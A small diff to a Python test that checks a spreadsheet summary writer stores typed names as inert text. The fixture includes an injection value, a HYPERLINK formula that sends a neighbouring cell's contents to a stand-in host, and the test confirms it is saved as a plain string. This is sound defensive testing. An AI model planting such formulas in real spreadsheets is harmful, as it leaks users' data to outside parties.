@@ -432,6 +432,7 @@ def test_the_summary_keeps_typed_names_as_inert_text(tmp_path: Path) -> None:
     row = ('=HYPERLINK("https://x.invalid/?u="&C2)', "HF\x07", "Enhet", "", "", "f.xlsx", 3, 1, "")
     path = tmp_path / "oversikt.xlsx"
     write_round_summary([row], path)
-    cell_a, cell_b = openpyxl.load_workbook(path).active["A2":"B2"][0]
+    sheet = openpyxl.load_workbook(path).worksheets[0]
+    cell_a, cell_b = sheet["A2"], sheet["B2"]
     assert cell_a.data_type == "s" and cell_a.value == row[0]
     assert cell_b.value == "HF "
